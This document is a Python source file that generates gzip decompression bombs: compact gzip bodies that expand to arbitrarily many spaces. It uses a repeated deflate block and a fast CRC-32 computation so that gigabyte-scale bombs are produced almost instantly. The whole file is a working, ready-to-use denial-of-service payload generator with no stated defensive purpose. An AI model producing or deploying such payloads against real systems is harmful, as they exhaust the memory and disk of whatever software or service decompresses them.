"""A gzip bomb: a small body that unpacks to blanks, made without packing all of them.

Packed is one block of blanks, closed so that it can stand behind itself again and again. The sum at
the end of the body is about all blanks; since `crc32` is linear in what it has come to so far, one
step over a whole block is 32 numbers and a few XORs. A gigabyte is made in the time of a frame.
"""

from __future__ import annotations

import zlib
from functools import lru_cache

BLOCK = b" " * 65_536
HEAD = b"\x1f\x8b\x08\x00\x00\x00\x00\x00\x00\xff"
KEPT = 8


@lru_cache(maxsize=KEPT)
def bomb_of(size: int) -> bytes:
    """A body that unpacks to so many blanks."""
    times, rest = divmod(size, len(BLOCK))
    packer = zlib.compressobj(9, zlib.DEFLATED, -zlib.MAX_WBITS)
    block = packer.compress(BLOCK) + packer.flush(zlib.Z_FULL_FLUSH)
    last = packer.compress(BLOCK[:rest]) + packer.flush()
    total = zlib.crc32(BLOCK[:rest], _sum_of_blocks(times))
    tail = total.to_bytes(4, "little") + (size % 2**32).to_bytes(4, "little")
    return b"".join([HEAD, block * times, last, tail])


def _sum_of_blocks(times: int) -> int:
    """The CRC-32 of so many blocks."""
    nothing = zlib.crc32(BLOCK, 0)
    by_bit = [zlib.crc32(BLOCK, 1 << bit) ^ nothing for bit in range(32)]
    total = 0
    for _ in range(times):
        after = nothing
        for bit, step in enumerate(by_bit):
            if total >> bit & 1:
                after ^= step
        total = after
    return total
